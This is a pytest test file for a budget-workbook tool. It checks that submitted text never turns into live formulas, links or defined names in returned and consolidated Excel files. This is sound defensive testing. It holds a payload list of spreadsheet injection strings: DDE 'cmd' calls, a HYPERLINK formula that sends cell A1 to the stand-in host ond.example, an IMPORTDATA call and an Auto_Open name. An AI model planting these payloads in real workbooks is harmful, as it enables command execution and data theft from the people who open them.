"""Promise 4: nothing that was submitted becomes a live formula or a link, in any workbook that goes out."""

import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest

from tests.attacks.builders import edit_row
from tests.attacks.conftest import ANSWER
from tests.mess import hands as h
from tests.office.package import coded
from tests.office.xmledit import Edit
from xlstyr.excel.read import read_workbook
from xlstyr.rounds.following.consolidating import consolidate
from xlstyr.rounds.following.returning import write_return
from xlstyr.rounds.incoming.collecting import collect
from xlstyr.rounds.incoming.examining import examine
from xlstyr.rounds.round import Round

PAYLOADS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://ond.example/?"&A1,"Klicka")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{=cmd|' /C calc'!A0}",
    "http://ond.example/",
    "mailto:ond@ond.example",
    "file:///C:/Windows/calc.exe",
    "internal:Start!A1",
    "external:\\\\ond.example\\x.xlsx",
    "\t=cmd|' /C calc'!A0",
    "\n=cmd|' /C calc'!A0",
    '=IMPORTDATA("http://ond.example/")',
    "_x003D_cmd|' /C calc'!A0",
    "<f>cmd|' /C calc'!A0</f>",
    "'=cmd|' /C calc'!A0",
)
SIGNS = ("cmd|", "ond.example", "calc.exe", "ond@")
TEXTS = (
    ("budget", None, "comment"),
    ("budget", "n1", "comment"),
    ("signoff", "message", "value"),
    ("signoff", "who", "value"),
    ("goals", "n2", "text"),
    ("indicators", "n1", "name"),
    ("indicators", "n1", "comment"),
)


def submitted(data: bytes, payload: str) -> bytes:
    """An answer with ``payload`` wherever it can be put."""
    edit = Edit(data)
    for table, row, column in TEXTS:
        try:
            edit.set(*edit.at(table, row or edit_row(edit), column), payload)
        except KeyError:
            continue
    edit.set("Budget", "AZ90", payload)
    package = edit.package
    text = package.text("xl/workbook.xml")
    name = "<definedName name=\"_xlnm.Auto_Open\">cmd|' /C calc'!A0</definedName>"
    package.put("xl/workbook.xml", text.replace("</definedNames>", f"{name}</definedNames>"))
    note = f'<comment ref="A1" authorId="0"><text><t>{coded(payload)}</t></text></comment>'
    note = f"<comments><authors><author>x</author></authors><commentList>{note}</commentList></comments>"
    h.add_part("xl/comments9.xml", note.encode(), "comments")(edit)
    return edit.bytes()


def live(data: bytes) -> list[str]:
    """Formulas, links and names in a workbook that hold anything of what was submitted."""
    found = []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            text = archive.read(name).decode("utf-8", "replace")
            if name.endswith(".rels"):
                targets = re.findall(r'Target="([^"]*)"', text)
                found += [target for target in targets if any(sign in target for sign in SIGNS)]
            for formula in re.findall(r"<(?:f|formula\d?|definedName)\b[^>]*>([^<]*)</", text):
                found += [formula] if any(sign in formula for sign in SIGNS) else []
    book = openpyxl.load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                is_theirs = isinstance(cell.value, str) and any(sign in cell.value for sign in SIGNS)
                if is_theirs and (cell.data_type != "s" or cell.hyperlink is not None):
                    found.append(f"{sheet.title}!{cell.coordinate}")
        found += [sheet.title] if any(sign in sheet.title for sign in SIGNS) else []
    return found


def shown(data: bytes) -> str:
    """Every text in a workbook's cells."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    return "\n".join(
        str(cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    )


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_what_is_submitted_never_lives(
    payload: str, exempelby_answered: Path, copied: Callable[[Path], Path], opened: Callable[[Path], Round]
) -> None:
    """In the return, in the committee's roll-up and in the whole: text is text, and the file's name too."""
    folder = copied(exempelby_answered)
    answer = folder / "inkorg" / ANSWER
    data = submitted(answer.read_bytes(), payload)
    answer.unlink()
    name = re.sub(r"[/\n\t]", "", payload)[:60] + ".xlsx"
    (folder / "inkorg" / name).write_bytes(data)
    round_ = opened(folder)
    (taken,) = collect(round_, [folder / "inkorg" / name])
    said = taken.examined
    assert said.node == "ekonomi-kansli", said.findings
    returned = write_return(round_, said)
    assert returned is not None
    parent = round_.premises.organisation.nodes["ekonomi-kansli"].parent
    written = [returned, consolidate(round_, parent).path, consolidate(round_).path]
    for path in written:
        assert live(path.read_bytes()) == []
    if payload[0] not in "\t\n_":
        assert payload in shown(returned.read_bytes())
    again, _ = read_workbook(returned.read_bytes())
    assert again is not None


@pytest.mark.parametrize("title", ["=cmd|x", "@SUM(1)", "http ond.example"])
def test_a_sheet_by_such_a_name(title: str, exempelby_answered: Path, opened: Callable[[Path], Round]) -> None:
    """A renamed sheet is named in a finding, as text."""
    edit = Edit((exempelby_answered / "inkorg" / ANSWER).read_bytes())
    edit.rename_sheet("Budget", title)
    round_ = opened(exempelby_answered)
    said = examine(round_, edit.bytes(), ANSWER)
    assert any(finding.place.sheet == title for finding in said.findings)
